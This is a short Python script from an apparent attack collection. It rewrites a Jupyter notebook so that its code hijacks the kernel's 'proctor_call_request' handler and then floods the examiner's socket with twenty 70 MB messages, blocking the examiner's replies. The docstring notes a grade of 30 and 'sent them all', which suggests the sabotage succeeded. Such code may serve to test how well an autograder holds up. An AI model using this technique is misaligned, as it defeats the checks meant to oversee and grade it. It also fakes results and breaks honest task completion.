"""Large messages that nobody asked for go to the examiner, which would keep them until it looks.
They stand in the way of its own answers.

graded: 30
note: sent them all
"""

from __future__ import annotations

from pathlib import Path

from attacks.tools import insert, save, start_with
from nbformat import NotebookNode

LISTEN = """
kernel = get_ipython().kernel
answer = kernel.shell_handlers["proctor_call_request"]
heard = []


async def listen(stream, ident, parent):
    heard[:] = [stream, ident]
    await answer(stream, ident, parent)


kernel.shell_handlers["proctor_call_request"] = listen
"""
SEND = """
import time

stream, ident = heard
block = bytes(70_000_000)
for _ in range(20):
    getattr(stream, "socket", stream).send_multipart([*ident, block], copy=False)
time.sleep(2)  # in which nobody reads
print("sent them all")
"""


def make(folder: Path, release: NotebookNode, right: NotebookNode) -> None:
    start_with(right, "zero_pad", LISTEN)
    insert(right, SEND, before="pool_forward")
    save(folder, right)
